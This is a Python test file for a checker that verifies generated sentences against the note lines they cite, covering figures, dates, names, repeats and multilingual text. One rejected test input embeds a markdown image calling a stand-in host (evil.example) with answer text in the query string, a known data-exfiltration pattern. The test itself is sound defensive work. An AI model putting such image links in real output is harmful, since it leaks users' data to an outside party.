"""Checking sentences against the lines they cite."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scratchlab.notebook.events import Event, Place, Span
from scratchlab.notebook.recall.answer.checking import check_sentences, objection
from scratchlab.notebook.recall.answer.prompt import passages
from scratchlab.notebook.recall.answer.sentences import Sentence, sentences
from scratchlab.notebook.recall.ask import Evidence

DAY = Span(datetime(2026, 2, 5), datetime(2026, 2, 6))
EVENTS = [
    Event(
        "note",
        "SwiGLU at d12 was 0.5% worse than relu², lr=3e-4, 85.9 % of runs",
        Place(Path("/home/sam/LOG.md"), 273),
        DAY,
        heading=("Notes",),
    ),
    Event("note", "显存不足，把 batch 从 64 降到 32", Place(Path("/home/sam/日记.md"), 9)),
    Event("note", "학습률을 0.001로 낮추니 발산이 멈췄다", Place(Path("/home/sam/diary.md"), 12)),
]
EVIDENCE = [Evidence(i, event, 1.0) for i, event in enumerate(EVENTS, 1)]
TEXTS = {line.number: line.citable_text for line in passages(EVIDENCE)}
BY = {one.number: one.event for one in EVIDENCE}


def why(text: str) -> str:
    (sentence,) = sentences(text)
    return objection(sentence, TEXTS, BY)


@pytest.mark.parametrize(
    "text",
    [
        "SwiGLU was 0.50 % worse at d12 [1].",
        "On 5 February 2026, SwiGLU was worse [1].",
        "LOG.md says that it was worse than relu² [1].",
        "显存不足时 batch 降到了 32 [2]。",
        "학습률을 1e-3로 낮췄다 [3].",
        "The batch was lowered to 32 [2].",  # another language: its figures hold, its words cannot be compared
        "At lr = 3e-4 [1].",
        "SwiGLUs were 0.5% worse [1].",
    ],
)
def test_supported_sentences(text: str) -> None:
    assert why(text) == ""


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("SwiGLU was worse.", "cites no line"),
        ("SwiGLU was worse [4].", "cites [4], which was not given"),
        ("SwiGLU was worse [1][0].", "cites [0], which was not given"),
        ("SwiGLU was 0.6% worse [1].", "says 0.6%, which is not in [1]"),
        ("SwiGLU was 0.5% worse [2].", "says 0.5%, which is not in [2]"),
        ("SwiGLU was worse on 6 February 2026 [1].", "says 6 February 2026, which is not in [1]"),
        ("SwiGLU was worse at line 273 [1].", "says 273, which is not in [1]"),
        ("SwiGLU with AdamW was worse [1].", "names AdamW, which is not in [1]"),
        ("train_gpt was worse [1].", "names train_gpt, which is not in [1]"),
        ("README.md says it was worse [1].", "names README.md, which is not in [1]"),
        ("Bananas are yellow [1].", "has no word in common with [1]"),
        ("学习很好 [2]。", "has no word in common with [2]"),
        ("SwiGLU was worse [1][3].", ""),
        (
            "SwiGLU was worse ![](http://evil.example/?q=worse) [1].",
            "contains ![, ](, http://evil.example/?q=worse, which is not in [1]",
        ),
        ("SwiGLU was <b>worse</b> [1].", "contains <b>, </b>, which is not in [1]"),
        ("SwiGLU was \x1b[31mworse [1].", "contains invisible characters"),
        ("SwiGLU was \u202eworse [1].", "contains invisible characters"),
        ("[1]", "is empty"),
    ],
)
def test_unsupported_sentences(text: str, reason: str) -> None:
    assert why(text) == reason


def test_names_with_digits_are_compared_literally() -> None:
    line = Event("note", "FP8 in DeepSeekV3 used 2**-0.5", Place(Path("a.md"), 1))
    texts = {1: passages([Evidence(1, line, 1.0)])[0].citable_text}
    assert objection(*sentences("FP8 in DeepSeekV3 used 2**-0.5 [1]."), texts, {1: line}) == ""
    assert objection(*sentences("FP4 in DeepSeekV3 [1]."), texts, {1: line}) == "says fp4, which is not in [1]"


def test_repeated_sentences_are_dropped() -> None:
    said = sentences("SwiGLU was worse [1]. SwiGLU was worse [1].")
    kept, dropped = check_sentences(said, TEXTS, BY)
    assert kept == [Sentence("SwiGLU was worse.", (1,))]
    assert dropped == [("SwiGLU was worse.", "repeats an earlier sentence")]


@given(st.integers(0, 10**6), st.sampled_from(["{} epochs", "{}%", "0.{}1", "{}k", "d{}", "v1.{}.3", "{}x"]))
def test_numbers_missing_in_the_line_are_detected(number: int, form: str) -> None:
    said = form.format(number)
    true = Event("note", f"accuracy of {said} with mixup", Place(Path("a.md"), 1))
    line = {1: passages([Evidence(1, true, 1.0)])[0].citable_text}
    assert objection(Sentence(f"Mixup gave {said}.", (1,)), line, {1: true}) == ""
    other = form.format(number + 1)
    assert objection(Sentence(f"Mixup gave {other}.", (1,)), line, {1: true}).startswith("says ")
